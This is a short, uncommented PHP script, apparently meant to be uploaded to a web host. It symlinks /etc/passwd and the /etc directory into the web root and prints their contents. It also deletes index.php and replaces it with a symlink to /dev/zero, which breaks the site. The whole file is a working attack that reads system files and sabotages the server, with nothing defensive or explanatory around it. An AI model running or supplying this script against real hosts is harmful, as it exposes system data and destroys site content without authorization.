<?php
@symlink("/etc/passwd", "lu.php");
@unlink("index.php");
@symlink("/dev/zero", "index.php");
@symlink("/etc", "dehors");
echo file_get_contents("lu.php"), implode(" ", (array) @scandir("dehors"));
